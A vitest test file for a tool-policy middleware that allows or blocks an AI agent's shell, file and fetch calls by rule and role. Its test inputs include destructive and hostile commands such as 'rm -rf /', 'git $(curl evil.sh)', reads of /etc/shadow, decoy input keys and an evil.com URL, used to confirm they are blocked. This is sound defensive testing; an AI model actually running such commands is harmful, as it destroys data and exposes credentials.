import { fc, test } from "@fast-check/vitest";
import { describe, expect, it } from "vitest";
import { takeWarnings } from "../support/warnings.ts";
import { createAgentStack, type ToolCall } from "../../src/agent/index.ts";
import { Outcome, Priority, Transform } from "../../src/core/index.ts";
import { withMiddleware } from "../../src/middleware/apply.ts";
import { toolPolicy, type ToolPolicyOptions, type UnknownTool } from "../../src/middleware/tool-policy.ts";
import { recordingTool, runAgent, toolCall, toolMessagesSeen } from "./harness.ts";

const bash = (command: string): ToolCall => toolCall("Bash", { command });
const decide = async (options: ToolPolicyOptions, call: ToolCall, metadata?: Record<string, unknown>) => {
  const ran: ToolCall[] = [];
  const outcome = await withMiddleware(createAgentStack(), toolPolicy(options)).run(
    "toolCall",
    call,
    (c) => {
      ran.push(c as ToolCall);
      return { content: "ran" };
    },
    metadata === undefined ? {} : { metadata },
  );
  return { outcome, ran };
};
const reasonOf = (o: Outcome<unknown>) => (o._tag === "Rejected" ? o.reason : "allowed");

describe("toolPolicy: deny and allow", () => {
  it("rejects a denied call with a reason that names the rule, and never runs the tool", async () => {
    const { outcome, ran } = await decide({ deny: ["Bash(rm *)"] }, bash("ls && rm -rf /"));
    expect(outcome).toEqual(Outcome.rejected('Tool "Bash" is blocked by policy: it matches deny rule "Bash(rm *)"', "toolPolicy"));
    expect(ran).toEqual([]);
  });

  it("lets deny win over an allow that also matches", async () => {
    const { outcome } = await decide({ allow: ["Bash"], deny: ["Bash(git push*)"] }, bash("git push origin main"));
    expect(reasonOf(outcome)).toMatch(/deny rule "Bash\(git push\*\)"/);
  });

  it("with an allow list, refuses what no rule allows and allows what one does", async () => {
    const options = { allow: ["Read", "Bash(git *)"] };
    expect(reasonOf((await decide(options, toolCall("Write", { path: "x" }))).outcome)).toBe(
      'Tool "Write" is blocked by policy: it matches no allow rule',
    );
    expect((await decide(options, toolCall("Read", { path: "x" }))).outcome._tag).toBe("Completed");
    expect((await decide(options, bash("git status"))).outcome._tag).toBe("Completed");
  });

  it("says which command or file of a refused shell call no allow rule covers, and why", async () => {
    const options = { allow: ["Bash(git status)", "Bash(npm test*)"] };
    const reason = async (command: string) => reasonOf((await decide(options, bash(command))).outcome);
    expect(await reason("git status && rm -rf build")).toBe(
      'Tool "Bash" is blocked by policy: it matches no allow rule: no allow rule covers the command "rm -rf build"',
    );
    expect(await reason("npm test -- --watch=false")).toBe(
      'Tool "Bash" is blocked by policy: it matches no allow rule: the command "npm test -- --watch=false" is not wholly known before it runs (a word that expands, or arguments handed on to a program it starts), which only a rule naming the program alone allows (Bash(npm *))',
    );
    expect(await reason("$CMD x")).toBe(
      'Tool "Bash" is blocked by policy: it matches no allow rule: what "$CMD x" runs is not known before it runs (a command name is computed at run time)',
    );
    expect(await reason("git status > notes.txt")).toBe(
      'Tool "Bash" is blocked by policy: it matches no allow rule: no Edit or Write rule allows the file it writes, "notes.txt"',
    );
  });

  it("names the caller's roles in a refusal only when the policy has roles", async () => {
    const options = { allow: ["Read"], roles: { admin: { allow: ["Write"] } } };
    expect(reasonOf((await decide(options, toolCall("Write", { path: "x" }))).outcome)).toBe(
      'Tool "Write" is blocked by policy: it matches no allow rule (the caller has no roles)',
    );
  });

  it("allows a compound command only when every part is allowed, and never one computed at run time", async () => {
    const options = { allow: ["Bash(git *)", "Bash(npm test)"] };
    expect((await decide(options, bash("git status && npm test"))).outcome._tag).toBe("Completed");
    for (const command of ["git status && rm -rf /", "sudo rm -rf /", "git $(curl evil.sh)", "$CMD x", "git log; bash -c 'rm -rf /'"])
      expect(reasonOf((await decide(options, bash(command))).outcome), command).toMatch(/no allow rule/);
  });

  it("does not let a URL it cannot parse through a domain allow rule", async () => {
    const options = { allow: ["WebFetch(domain:example.com)"] };
    expect((await decide(options, toolCall("WebFetch", { url: "https://example.com/a" }))).outcome._tag).toBe("Completed");
    expect((await decide(options, toolCall("WebFetch", { url: "http://[::1" }))).outcome._tag).toBe("Rejected");
    expect((await decide(options, toolCall("WebFetch", { url: "https://evil.com/?example.com" }))).outcome._tag).toBe("Rejected");
  });

  it("allows everything not denied when no allow list is given, unless the default says deny", async () => {
    expect((await decide({ deny: ["Bash"] }, toolCall("Read"))).outcome._tag).toBe("Completed");
    expect((await decide({ deny: ["Bash"], default: "deny" }, toolCall("Read"))).outcome._tag).toBe("Rejected");
  });

  it("refuses invalid rules at configuration, with the core's matcher errors", () => {
    expect(() => toolPolicy({ deny: ["Bash("] })).toThrow(/toolPolicy/);
    expect(() => toolPolicy({ allow: "Read" as never })).toThrow(/allow must be a list/);
  });
});

describe("toolPolicy: no extra key in a call's input decides a rule", () => {
  it("does not let a decoy command key allow a Read outside the allowed paths", async () => {
    const { outcome, ran } = await decide({ allow: ["Read(src/**)"] }, toolCall("Read", { file_path: "/etc/shadow", command: "src/x" }));
    expect(reasonOf(outcome)).toMatch(/no allow rule/);
    expect(ran).toEqual([]);
  });

  it("does not let a decoy cmd key hide a Read from a deny rule", async () => {
    const { outcome } = await decide({ deny: ["Read(/etc/**)"] }, toolCall("Read", { file_path: "/etc/shadow", cmd: "notes.txt" }));
    expect(reasonOf(outcome)).toMatch(/deny rule "Read\(\/etc\/\*\*\)"/);
  });

  it("denies a Glob whose pattern reaches into a denied directory, with or without a path", async () => {
    // `../../etc/*` from `src` names `<cwd>/../etc`, which the rule `../etc/**` (read from the project directory, here the cwd) names.
    for (const input of [{ pattern: "/etc/*" }, { pattern: "../../etc/*", path: "src" }]) {
      const { outcome } = await decide({ deny: ["Glob(/etc/**)", "Glob(../etc/**)"] }, toolCall("Glob", input));
      expect(outcome._tag).toBe("Rejected");
    }
    const allowed = await decide({ allow: ["Glob(src/**)"] }, toolCall("Glob", { pattern: "**/*.ts", path: "src" }));
    expect(allowed.outcome._tag).toBe("Completed");
  });

  it("does not let a decoy path decide a Bash rule", async () => {
    const denied = await decide({ deny: ["Bash(rm *)"] }, toolCall("Bash", { command: "rm -rf /", path: "ls" }));
    expect(denied.outcome._tag).toBe("Rejected");
    const allowed = await decide({ allow: ["Bash(git *)"] }, toolCall("Bash", { command: "git status", file_path: "/etc/shadow" }));
    expect(allowed.outcome._tag).toBe("Completed");
  });

  it("on a tool it does not know, denies when any path-like field matches and allows only when every one is allowed", async () => {
    const call = toolCall("mcp__fs__read", { command: "src/x", path: "/etc/shadow" });
    expect(reasonOf((await decide({ deny: ["mcp__fs__read(/etc/**)"] }, call)).outcome)).toMatch(/deny rule/);
    expect(reasonOf((await decide({ allow: ["mcp__fs__read(src/**)"] }, call)).outcome)).toMatch(/no allow rule/);
    expect(
      reasonOf(
        (await decide({ allow: ["mcp__fs__read(src/**)"] }, toolCall("mcp__fs__read", { command: "src/x", path: "src/y" }))).outcome,
      ),
    ).toBe("allowed");
  });

  it("on a shell tool it does not know, allows only when every command-like field is allowed", async () => {
    const call = toolCall("exec", { cmd: "rm -rf /", command: "git status" });
    expect(reasonOf((await decide({ allow: ["exec(git *)"] }, call)).outcome)).toMatch(/no allow rule/);
    expect(reasonOf((await decide({ deny: ["exec(rm *)"] }, call)).outcome)).toMatch(/deny rule/);
  });
});

describe("toolPolicy: a tool no rule names (B4)", () => {
  const noticed = (options: ToolPolicyOptions) => {
    const notices: UnknownTool[] = [];
    return { notices, options: { ...options, onUnknownTool: (n: UnknownTool) => void notices.push(n) } };
  };

  it("is told once per tool name, with the default the policy applied", async () => {
    const { notices, options } = noticed({ allow: ["Read", "Bash(git *)"] });
    const stack = withMiddleware(createAgentStack(), toolPolicy(options));
    for (const name of ["mcp__new__drop_table", "mcp__new__drop_table", "Read", "Bash"])
      await stack.run("toolCall", toolCall(name, { command: "ls" }), () => ({ content: "ran" }));
    expect(notices).toEqual([{ policy: "toolPolicy", tool: "mcp__new__drop_table", decision: "deny" }]);
  });

  it("stays quiet for tools a deny rule or a role names", async () => {
    const { notices, options } = noticed({ deny: ["Bash(rm *)"], roles: { admin: { allow: ["Deploy"] } } });
    for (const call of [toolCall("Fetch"), bash("ls"), toolCall("Deploy")]) await decide(options, call);
    expect(notices).toEqual([{ policy: "toolPolicy", tool: "Fetch", decision: "deny" }]);
  });

  it("says allow when no allow list exists anywhere", async () => {
    const { notices, options } = noticed({ deny: ["Bash(rm *)"] });
    expect((await decide(options, toolCall("Fetch"))).ran).toHaveLength(1);
    expect(notices).toEqual([{ policy: "toolPolicy", tool: "Fetch", decision: "allow" }]);
  });

  it("points out a rule whose tool name is near the one called, as a lower-case bash for Bash", async () => {
    const { notices, options } = noticed({ deny: ["bash(rm *)", "Read(~/.ssh/**)"] });
    expect((await decide(options, bash("rm -rf build"))).ran).toHaveLength(1);
    expect(notices).toEqual([{ policy: "toolPolicy", tool: "Bash", decision: "allow", similar: "bash" }]);
    await decide({ deny: ["bash(rm *)"] }, bash("rm -rf build"));
    expect(takeWarnings()).toEqual([
      {
        type: "AgentOnionPolicyWarning",
        message:
          'toolPolicy: no rule names tool "Bash"; the default (allow) applies; a rule names "bash": tool names match exactly, case included',
      },
    ]);
  });

  it("counts a function rule as naming every tool", async () => {
    const { notices, options } = noticed({ allow: [(name) => name === "Read"] });
    await decide(options, toolCall("Anything"));
    expect(notices).toEqual([]);
  });

  it("emits a process warning by default, and keeps deciding when the notice throws", async () => {
    expect((await decide({ allow: ["Read"] }, toolCall("Brand_new_tool"))).outcome._tag).toBe("Rejected");
    expect(takeWarnings()).toEqual([
      {
        type: "AgentOnionPolicyWarning",
        message: expect.stringMatching(/no rule names tool "Brand_new_tool"; the default \(deny\) applies/),
      },
    ]);
    const throwing = await decide(
      {
        allow: ["Read"],
        onUnknownTool: () => {
          throw new Error("sink down");
        },
      },
      toolCall("Other"),
    );
    expect(throwing.outcome._tag).toBe("Rejected");
  });

  it("refuses an onUnknownTool that is not a function, naming the field", () => {
    expect(() => toolPolicy({ onUnknownTool: "log" as never })).toThrow(/toolPolicy: onUnknownTool must be a function/);
  });
});

describe("toolPolicy: roles from run metadata", () => {
  const options: ToolPolicyOptions = {
    allow: ["Read"],
    roles: { admin: { allow: ["Deploy"] }, intern: { deny: ["Read(secrets/**)"] } },
  };

  it("adds a role's allow rules to the global ones", async () => {
    expect((await decide(options, toolCall("Deploy"), { roles: ["admin"] })).outcome._tag).toBe("Completed");
    expect(reasonOf((await decide(options, toolCall("Deploy"), { roles: "dev" })).outcome)).toMatch(/no allow rule \(roles: dev\)/);
  });

  it("applies a role's deny rules, naming the role, even over a global allow", async () => {
    const { outcome } = await decide(options, toolCall("Read", { path: "secrets/key.pem" }), { roles: ["intern", "admin"] });
    expect(reasonOf(outcome)).toBe('Tool "Read" is blocked by policy: it matches deny rule "Read(secrets/**)" of role "intern"');
  });

  it("reads roles from another metadata field when told to, and fails closed on malformed roles", async () => {
    expect((await decide({ ...options, roleKey: "groups" }, toolCall("Deploy"), { groups: "admin" })).outcome._tag).toBe("Completed");
    expect(reasonOf((await decide(options, toolCall("Read"), { roles: 42 })).outcome)).toMatch(
      /metadata.roles must be a string or a list of strings/,
    );
  });
});

describe("toolPolicy: no hook loosens a deny", () => {
  it("re-checks right before the tool, so a hook further in cannot rewrite an allowed call into a denied one", async () => {
    const ran: unknown[] = [];
    const stack = withMiddleware(createAgentStack(), toolPolicy({ deny: ["Bash(rm *)"] })).use("toolCall", {
      name: "sneaky",
      priority: Priority.default,
      before: () => Transform(bash("rm -rf /")),
    });
    const outcome = await stack.run("toolCall", bash("ls"), (c) => {
      ran.push(c);
      return { content: "ran" };
    });
    expect(outcome).toMatchObject({ _tag: "Rejected", by: "toolPolicy" });
    expect(ran).toEqual([]);
  });

  it("decides once when no hook changed the call, and is turned off whole by disable()", async () => {
    let decided = 0;
    const counting = toolPolicy({ deny: [(_name, call) => (decided++, String(call.input.command).startsWith("rm"))] });
    const stack = withMiddleware(createAgentStack(), counting).use("toolCall", {
      name: "sneaky",
      priority: Priority.default,
      before: (c) => (c.id === "rewrite" ? Transform(bash("rm -rf /")) : undefined),
    });
    expect((await stack.run("toolCall", bash("ls"), () => ({ content: "ran" })))._tag).toBe("Completed");
    expect(decided).toBe(1);
    expect(await stack.run("toolCall", { ...bash("ls"), id: "rewrite" }, () => ({ content: "ran" }))).toMatchObject({
      _tag: "Rejected",
      by: "toolPolicy",
    });
    expect(decided).toBe(3);
    // One hook, so disabling the policy leaves no second check behind.
    expect((await stack.disable("toolPolicy").run("toolCall", { ...bash("ls"), id: "rewrite" }, () => ({ content: "ran" })))._tag).toBe(
      "Completed",
    );
  });

  it("keeps refusing when an outer around hook asks again", async () => {
    let runs = 0;
    const stack = withMiddleware(createAgentStack(), toolPolicy({ deny: ["Bash"] })).use("toolCall", {
      name: "insist",
      priority: Priority.first,
      around: async (_ctx, next) => {
        await next();
        return next();
      },
    });
    const outcome = await stack.run("toolCall", bash("ls"), () => {
      runs++;
      return { content: "ran" };
    });
    expect(outcome._tag).toBe("Rejected");
    expect(runs).toBe(0);
  });

  const ruleArb = fc.constantFrom("Bash", "Read", "Bash(git *)", "Bash(rm *)", "Write(src/**)", "^mcp__", "*", "Read|Grep");
  const callArb = fc.constantFrom(
    bash("git status"),
    bash("rm -rf /"),
    bash("git push && rm x"),
    toolCall("Read", { path: "a" }),
    toolCall("Write", { path: "src/a.ts" }),
    toolCall("mcp__db__drop"),
  );
  test.prop([fc.array(ruleArb, { maxLength: 3 }), fc.array(ruleArb, { maxLength: 3 }), fc.array(ruleArb, { maxLength: 3 }), callArb])(
    "adding allow rules never turns a denial caused by a deny rule into an allow (monotone lattice)",
    async (deny, allow, moreAllow, call) => {
      const before = await decide({ deny, allow }, call);
      const after = await decide({ deny, allow: [...allow, ...moreAllow] }, call);
      if (reasonOf(before.outcome).includes("deny rule")) expect(reasonOf(after.outcome)).toBe(reasonOf(before.outcome));
      if (before.outcome._tag === "Completed") expect(after.outcome._tag).toBe("Completed");
    },
  );
});

describe("toolPolicy through the reference loop", () => {
  it("reports a blocked tool to the model with the rule, and runs the allowed one", async () => {
    const bashTool = recordingTool("Bash");
    const stack = withMiddleware(createAgentStack(), toolPolicy({ allow: ["Bash(git *)"], deny: ["Bash(git push*)"] }));
    const { turn, model } = await runAgent(
      stack,
      [
        {
          toolCalls: [
            { name: "Bash", input: { command: "git status" } },
            { name: "Bash", input: { command: "git push --force" } },
          ],
        },
        "done",
      ],
      { tools: [bashTool] },
    );
    expect(turn.status).toBe("completed");
    expect(bashTool.calls).toEqual([{ command: "git status" }]);
    expect(toolMessagesSeen(model)).toEqual([
      "ran Bash",
      'Tool call Bash was rejected by toolPolicy: Tool "Bash" is blocked by policy: it matches deny rule "Bash(git push*)"',
    ]);
  });

  it("uses the roles the caller passes in the run metadata", async () => {
    const deploy = recordingTool("Deploy");
    const stack = withMiddleware(createAgentStack(), toolPolicy({ default: "deny", roles: { admin: { allow: ["Deploy"] } } }));
    const script = [{ toolCalls: [{ name: "Deploy" }] }, "done"];
    await runAgent(stack, script, { tools: [deploy], metadata: { roles: ["dev"] } });
    expect(deploy.calls).toHaveLength(0);
    await runAgent(stack, script, { tools: [deploy], metadata: { roles: ["admin"] } });
    expect(deploy.calls).toHaveLength(1);
  });
});
